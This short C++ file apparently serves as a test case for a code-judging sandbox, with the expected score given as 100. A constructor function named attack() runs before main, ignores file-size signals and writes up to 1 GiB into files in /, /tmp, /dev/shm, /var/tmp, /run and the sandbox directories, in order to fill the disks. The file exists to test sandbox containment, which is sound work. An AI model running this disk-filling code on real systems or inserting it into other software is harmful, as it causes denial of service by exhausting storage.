// Tries to fill every disk that it can write to. Here at most 1 GiB.
// scores: 100
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

#include <initializer_list>
#include <string>

[[gnu::constructor]] static void attack() {
  ::signal(SIGXFSZ, SIG_IGN);
  static const std::string much(1 << 20, 'x');
  for (const char* folder :
       {"/", "/tmp/", "/dev/shm/", "/var/tmp/", "/run/", "@ROOT@/", "@OUT@/"}) {
    const int file = ::open((folder + std::string("full")).c_str(), O_WRONLY | O_CREAT, 0600);
    for (int n = 0; n < 1024 && ::write(file, much.data(), much.size()) > 0; ++n) {
    }
    ::close(file);
  }
}
